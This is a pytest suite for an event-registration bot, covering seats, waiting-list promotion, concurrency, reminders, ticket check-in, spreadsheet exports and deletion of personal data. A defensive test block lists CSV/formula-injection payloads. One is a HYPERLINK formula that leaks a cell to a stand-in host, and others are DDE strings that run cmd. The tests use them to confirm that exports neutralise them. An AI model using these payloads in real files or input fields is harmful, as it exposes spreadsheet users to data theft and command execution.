"""Seats, the waiting list, concurrency, reminders, check-in, exports and privacy."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot import clock
from bot.app import App
from bot.core.notify import Notifier, Pushed, PushResult
from bot.core.replies import Reply
from bot.db.models import Registration, Reminder
from bot.services import forums, reminders
from tests.forum_helpers import DETAILS, OFFSETS, make_forum, make_user


async def register_many(app: App, forum_id: int, users: list[int]) -> list[Registration]:
    async def one(user_id: int) -> Registration:
        async with app.engine.sessionmaker() as db, db.begin():
            return await forums.register(db, forum_id, user_id, DETAILS, clock.now(), OFFSETS)

    return list(await asyncio.gather(*(one(u) for u in users)))


async def setup(app: App, capacity: int, people: int, **forum_args) -> tuple[int, list[int]]:  # type: ignore[no-untyped-def]
    async with app.engine.sessionmaker() as db, db.begin():
        forum = await make_forum(db, capacity=capacity, **forum_args)
        slug = forum_args.get("slug", "berlin-2027")
        users = [(await make_user(db, f"{slug}-{n}")).id for n in range(people)]
    return forum.id, users


async def test_seats_then_waiting_list_with_positions(app: App) -> None:
    forum_id, users = await setup(app, capacity=2, people=4)
    registrations = [r for u in users for r in await register_many(app, forum_id, [u])]
    assert [r.status for r in registrations] == ["confirmed", "confirmed", "waiting", "waiting"]
    async with app.engine.sessionmaker() as db:
        assert await forums.waiting_position(db, registrations[2]) == 1
        assert await forums.waiting_position(db, registrations[3]) == 2
        reminder_rows = (await db.execute(select(func.count()).select_from(Reminder))).scalar()
    assert reminder_rows == 2 * 3  # only the confirmed get reminders


async def test_cancelling_frees_the_seat_for_the_first_in_line(app: App) -> None:
    forum_id, users = await setup(app, capacity=1, people=3)
    first, second, third = [r for u in users for r in await register_many(app, forum_id, [u])]
    async with app.engine.sessionmaker() as db, db.begin():
        registration = await db.get(Registration, first.id)
        assert registration is not None
        promoted = await forums.cancel(db, registration, clock.now(), OFFSETS)
        assert [p.id for p in promoted] == [second.id]
    async with app.engine.sessionmaker() as db:
        statuses = dict((await db.execute(select(Registration.id, Registration.status))).all())
        assert statuses == {first.id: "cancelled", second.id: "confirmed", third.id: "waiting"}
        assert await forums.waiting_position(db, third) == 1
        kinds = sorted((await db.execute(
            select(Reminder.kind, Reminder.status).where(Reminder.registration_id == second.id)
        )).all())
        assert kinds == [("before", "pending")] * 3 + [("promoted", "pending")]
        cancelled = (await db.execute(select(Reminder.status).where(
            Reminder.registration_id == first.id))).scalars().all()
        assert set(cancelled) == {"cancelled"}
        forum = await forums.get(db, forum_id)
        assert forum is not None and forum.confirmed_count == 1


async def test_hundreds_at_the_same_moment_confirm_exactly_the_capacity(app: App) -> None:
    forum_id, users = await setup(app, capacity=25, people=200)
    registrations = await register_many(app, forum_id, users)
    assert sum(r.status == "confirmed" for r in registrations) == 25
    assert sum(r.status == "waiting" for r in registrations) == 175
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
        assert forum is not None and forum.confirmed_count == 25
        confirmed = (await db.execute(select(func.count()).select_from(Registration).where(
            Registration.status == "confirmed"))).scalar()
        assert confirmed == 25


async def test_concurrent_cancellations_promote_each_waiting_person_once(app: App) -> None:
    forum_id, users = await setup(app, capacity=10, people=30)
    registrations = [r for u in users for r in await register_many(app, forum_id, [u])]
    confirmed = [r.id for r in registrations if r.status == "confirmed"]

    async def cancel(registration_id: int) -> None:
        async with app.engine.sessionmaker() as db, db.begin():
            registration = await db.get(Registration, registration_id)
            assert registration is not None
            await forums.cancel(db, registration, clock.now(), OFFSETS)

    await asyncio.gather(*(cancel(r) for r in confirmed[:6]))
    async with app.engine.sessionmaker() as db:
        counts = await forums.counts(db, (await forums.get(db, forum_id)))  # type: ignore[arg-type]
        forum = await forums.get(db, forum_id)
    assert counts["confirmed"] == 10 == forum.confirmed_count  # type: ignore[union-attr]
    assert counts["waiting"] == 14 and counts["cancelled"] == 6


async def test_registration_closes_at_the_deadline_and_twice_is_refused(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=2, starts_in=timedelta(hours=12))
    with pytest.raises(forums.ForumError, match="closed"):
        await register_many(app, forum_id, users[:1])  # the deadline was a day before
    forum_id2, users2 = await setup(app, capacity=5, people=1, slug="open")
    await register_many(app, forum_id2, users2)
    with pytest.raises(forums.ForumError, match="already_registered"):
        await register_many(app, forum_id2, users2)


async def test_tickets_are_random_and_check_in_works_once(app: App) -> None:
    forum_id, users = await setup(app, capacity=2, people=3)
    registrations = [r for u in users for r in await register_many(app, forum_id, [u])]
    secrets = [r.ticket_secret for r in registrations]
    assert len(set(secrets)) == 3 and all(s and len(s) == 32 for s in secrets)
    async with app.engine.sessionmaker() as db, db.begin():
        first = await forums.check_in(db, secrets[0], by=users[0], now=clock.now())
        again = await forums.check_in(db, secrets[0], by=users[0], now=clock.now())
        waiting = await forums.check_in(db, secrets[2], by=users[0], now=clock.now())
        unknown = await forums.check_in(db, "x" * 32, by=users[0], now=clock.now())
    assert (first.outcome, again.outcome, waiting.outcome, unknown.outcome) == (
        "checked_in", "already", "waiting", "unknown")
    assert again.registration is not None and again.registration.checked_in_at is not None


async def test_export_csv_has_a_bom_and_every_column_and_xlsx_opens(app: App) -> None:
    forum_id, users = await setup(app, capacity=1, people=2)
    for user in users:
        await register_many(app, forum_id, [user])
    header = {column: column.replace("_", " ").title() for column in forums.EXPORT_COLUMNS}
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
        assert forum is not None
        rows = await forums.attendee_rows(db, forum)
    data = forums.to_csv(rows, header)
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == list(header.values())
    assert [row[1] for row in table[1:]] == ["confirmed", "waiting"]
    assert table[1][2] == "Айгерім Сейітова" and table[2][-1] == "1"
    book = load_workbook(io.BytesIO(forums.to_xlsx(rows, header, "Berlin")))
    sheet = book.active
    assert sheet is not None and sheet.cell(2, 3).value == "Айгерім Сейітова"


# What people could type as their name or organization to make a coordinator's
# spreadsheet run something (OWASP's "CSV injection" examples and their variants).
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1, \"Click\")", "=1+HYPERLINK(\"http://x\")",
            "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1", "+1", "-1", "@1", "=0x1", "+7 701 234 5678", "-", "=", "\t=1+1",
            "\r=1+1", "\t\t-1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "@NOW()", "+A1", "-A1*2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def exported_rows(names: list[str]) -> list[dict[str, object]]:
    return [{column: "" for column in forums.EXPORT_COLUMNS} | {
        "number": number, "status": "confirmed", "full_name": name, "organization": name,
        "phone": "+4915112345678", "waiting_position": ""}
        for number, name in enumerate(names, 1)]


HEADER = {column: column.replace("_", " ").title() for column in forums.EXPORT_COLUMNS}


def test_no_csv_cell_starts_like_a_formula() -> None:
    data = forums.to_csv(exported_rows(FORMULAS), HEADER)
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in table[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    names = [row[2] for row in table[1:]]
    assert names == ["'" + name for name in FORMULAS]  # shown as typed, after the quote
    assert table[1][7] == "'+4915112345678"


def test_no_xlsx_cell_is_a_formula() -> None:
    book = load_workbook(io.BytesIO(forums.to_xlsx(exported_rows(FORMULAS), HEADER, "=1+1")))
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 1).data_type == "n"


def test_control_characters_are_dropped_and_the_list_comes_out() -> None:
    names = ["Ай\x1bгерім", "Nul\x00l", "Bell\x07 \x7fDel\x85", "Lone\ud800\ufffe",
             "Line\nbreak\tand tab"]
    rows = exported_rows(names)
    expected = ["Айгерім", "Null", "Bell Del", "Lone", "Line\nbreak\tand tab"]
    table = list(csv.reader(io.StringIO(forums.to_csv(rows, HEADER).decode("utf-8-sig"),
                                        newline="")))
    assert [row[2] for row in table[1:]] == expected
    sheet = load_workbook(io.BytesIO(forums.to_xlsx(rows, HEADER, "Ber[lin]:\x1b"))).active
    assert sheet is not None and sheet.title == "Ber lin"
    assert [sheet.cell(row, 3).value for row in range(2, 2 + len(names))] == expected


def test_the_cleaning_drops_all_that_openpyxl_refuses() -> None:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    refused = [chr(code) for code in range(0x10000) if ILLEGAL_CHARACTERS_RE.match(chr(code))]
    assert refused and all(forums.safe_cell(f"a{char}b") == "ab" for char in refused)
    assert forums.safe_cell(12) == 12 and forums.safe_cell(None) is None


async def test_a_forum_with_an_escape_in_a_name_still_exports(app: App) -> None:
    forum_id, users = await setup(app, capacity=2, people=2)
    async with app.engine.sessionmaker() as db, db.begin():
        for user, name in zip(users, ["Ай\x1bгерім", "=1+HYPERLINK(\"http://x\")"],
                              strict=True):
            await forums.register(db, forum_id, user, DETAILS | {"full_name": name},
                                  clock.now(), OFFSETS)
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
        assert forum is not None
        rows = await forums.attendee_rows(db, forum)
    sheet = load_workbook(io.BytesIO(forums.to_xlsx(rows, HEADER, "Berlin"))).active
    assert sheet is not None
    assert [sheet.cell(row, 3).value for row in (2, 3)] == [
        "Айгерім", "'=1+HYPERLINK(\"http://x\")"]


async def test_forum_changes_move_reminders_and_notify(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=2)
    for user in users:
        await register_many(app, forum_id, [user])
    async with app.engine.sessionmaker() as db, db.begin():
        forum = await forums.get(db, forum_id)
        assert forum is not None
        new_start = forum.starts_at + timedelta(days=3)
        changed = await forums.update_forum(
            db, forum, {"starts_at": new_start, "ends_at": new_start + timedelta(hours=8),
                        "deadline": new_start - timedelta(days=1)}, clock.now(), OFFSETS)
        assert changed == {"starts_at", "ends_at", "deadline"}
    async with app.engine.sessionmaker() as db:
        rows = (await db.execute(select(Reminder.kind, Reminder.status, Reminder.due_at))).all()
    pending_before = [r for r in rows if r.kind == "before" and r.status == "pending"]
    assert len(pending_before) == 6
    expected = {(new_start - offset).replace(tzinfo=None) for offset in OFFSETS}
    assert {r.due_at.replace(tzinfo=None) for r in pending_before} == expected
    assert sum(r.kind == "changed" for r in rows) == 2
    assert sum(r.status == "cancelled" for r in rows) == 6


async def test_cancelling_a_forum_notifies_everyone_registered(app: App) -> None:
    forum_id, users = await setup(app, capacity=1, people=2)
    for user in users:
        await register_many(app, forum_id, [user])
    async with app.engine.sessionmaker() as db, db.begin():
        forum = await forums.get(db, forum_id)
        assert forum is not None
        await forums.set_status(db, forum, "cancelled", clock.now())
    async with app.engine.sessionmaker() as db:
        rows = (await db.execute(select(Reminder.kind, Reminder.status))).all()
    assert sorted(r.kind for r in rows if r.status == "pending") == ["cancelled", "cancelled"]


class Recorder:
    def __init__(self, result: PushResult = PushResult.SENT) -> None:
        self.sent: list[tuple[str, str, str]] = []
        self.result = result

    async def __call__(self, external_id: str, replies: list[Reply], kind: str) -> Pushed:
        self.sent.append((external_id, kind, replies[0].text))
        if self.result is not PushResult.SENT:
            return Pushed(self.result)
        return Pushed(self.result, (f"m{len(self.sent)}",))


def compose(due: reminders.Due, now) -> list[Reply]:  # type: ignore[no-untyped-def]
    left = due.forum.starts_at.replace(tzinfo=None) - now.replace(tzinfo=None)
    return [Reply(f"{due.reminder.kind}:{due.reminder.offset_minutes}:{left.days}")]


async def test_reminders_are_sent_once_at_their_time(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=1)
    await register_many(app, forum_id, users)
    notifier, recorder = Notifier(), Recorder()
    notifier.register("test", recorder)
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
    assert forum is not None
    start = forum.starts_at if forum.starts_at.tzinfo else forum.starts_at.replace(
        tzinfo=clock.now().tzinfo)
    run = reminders.run_due
    maker = app.engine.sessionmaker
    assert await run(maker, notifier, compose, "w", start - timedelta(days=8)) == {}
    assert await run(maker, notifier, compose, "w", start - timedelta(days=6)) == {"sent": 1}
    assert await run(maker, notifier, compose, "w", start - timedelta(days=6)) == {}
    assert await run(maker, notifier, compose, "w", start - timedelta(hours=20)) == {"sent": 1}
    assert await run(maker, notifier, compose, "w", start - timedelta(hours=1)) == {"sent": 1}
    assert [kind for _, kind, _ in recorder.sent] == ["before"] * 3
    assert [text.split(":")[1] for _, _, text in recorder.sent] == ["10080", "1440", "120"]


async def starts_at(app: App, forum_id: int) -> datetime:
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
    assert forum is not None
    return forum.starts_at.replace(tzinfo=clock.now().tzinfo)


class Gate(Recorder):
    """Holds every push until `together` of them are in flight at once."""

    def __init__(self, together: int) -> None:
        super().__init__()
        self.together = together
        self.arrived = 0
        self.all_in = asyncio.Event()

    async def __call__(self, external_id: str, replies: list[Reply], kind: str) -> Pushed:
        self.arrived += 1
        if self.arrived >= self.together:
            self.all_in.set()
        await asyncio.wait_for(self.all_in.wait(), 10)
        return await super().__call__(external_id, replies, kind)


async def test_reminders_due_together_go_out_together(app: App) -> None:
    # Sent one after another, the first would wait for the others in vain.
    forum_id, users = await setup(app, capacity=5, people=3)
    await register_many(app, forum_id, users)
    notifier, gate = Notifier(), Gate(3)
    notifier.register("test", gate)
    start = await starts_at(app, forum_id)
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start - timedelta(days=6))
    assert tally == {"sent": 3} and len(gate.sent) == 3


async def test_after_a_downtime_only_the_nearest_reminder_is_sent(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=1)
    await register_many(app, forum_id, users)
    notifier, recorder = Notifier(), Recorder()
    notifier.register("test", recorder)
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
    assert forum is not None
    start = forum.starts_at.replace(tzinfo=clock.now().tzinfo)
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start - timedelta(minutes=90))
    assert tally == {"skipped": 2, "sent": 1}
    assert [text.split(":")[1] for _, _, text in recorder.sent] == ["120"]
    # Down until after the start: nothing is sent at all.
    forum_id2, users2 = await setup(app, capacity=5, people=1, slug="second")
    await register_many(app, forum_id2, users2)
    recorder.sent.clear()
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start + timedelta(days=30))
    assert recorder.sent == [] and tally == {"skipped": 3}


async def test_two_claimers_never_take_the_same_row(app: App) -> None:
    forum_id, users = await setup(app, capacity=60, people=60)
    await register_many(app, forum_id, users)
    later = clock.now() + timedelta(days=20)

    async def claimer(name: str) -> list[int]:
        taken: list[int] = []
        while True:
            async with app.engine.sessionmaker() as db, db.begin():
                ids = await reminders.claim(db, name, later, limit=7)
            if not ids:
                return taken
            taken += ids

    one, two = await asyncio.gather(claimer("a"), claimer("b"))
    assert len(one) + len(two) == 180
    assert not set(one) & set(two)


async def test_a_row_left_sending_by_a_dead_process_is_taken_again(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=1)
    await register_many(app, forum_id, users)
    later = clock.now() + timedelta(days=20)
    async with app.engine.sessionmaker() as db, db.begin():
        first = await reminders.claim(db, "dead", later, limit=1)
    async with app.engine.sessionmaker() as db, db.begin():
        assert first[0] not in await reminders.claim(db, "alive", later + timedelta(seconds=5))
    async with app.engine.sessionmaker() as db, db.begin():
        assert first[0] in await reminders.claim(db, "alive", later + timedelta(seconds=20))


async def test_unreachable_users_and_channels_without_push(app: App) -> None:
    forum_id, users = await setup(app, capacity=5, people=1)
    await register_many(app, forum_id, users)
    notifier = Notifier()  # no sender for the "test" channel
    start = clock.now() + timedelta(days=10)
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start - timedelta(days=6))
    assert tally == {"skipped": 1}
    notifier.register("test", Recorder(PushResult.UNREACHABLE))
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start - timedelta(hours=20))
    assert tally == {"failed": 1}
    notifier.register("test", Recorder(PushResult.FAILED))
    tally = await reminders.run_due(app.engine.sessionmaker, notifier, compose, "w",
                                    start - timedelta(hours=1))
    assert tally == {"pending": 1}  # retried later with backoff


async def test_forget_user_frees_the_seat_and_strips_personal_data(app: App) -> None:
    forum_id, users = await setup(app, capacity=1, people=2)
    for user in users:
        await register_many(app, forum_id, [user])
    async with app.engine.sessionmaker() as db, db.begin():
        await forums.forget_user(db, users[0], clock.now(), OFFSETS)
    async with app.engine.sessionmaker() as db:
        rows = (await db.execute(select(Registration).order_by(Registration.id))).scalars().all()
    assert [r.status for r in rows] == ["cancelled", "confirmed"]
    assert rows[0].full_name is None and rows[0].user_id is None and rows[0].phone is None
    assert rows[1].full_name == DETAILS["full_name"]


async def test_purge_after_the_event_keeps_only_counts(app: App) -> None:
    forum_id, users = await setup(app, capacity=1, people=2)
    for user in users:
        await register_many(app, forum_id, [user])
    async with app.engine.sessionmaker() as db, db.begin():
        assert await forums.purge(db, clock.now() + timedelta(days=20), after_days=30) == 0
        assert await forums.purge(db, clock.now() + timedelta(days=50), after_days=30) == 1
    async with app.engine.sessionmaker() as db:
        forum = await forums.get(db, forum_id)
        assert forum is not None
        counts = await forums.counts(db, forum)
        names = (await db.execute(select(Registration.full_name))).scalars().all()
    assert counts["confirmed"] == 1 and counts["waiting"] == 1
    assert names == [None, None]
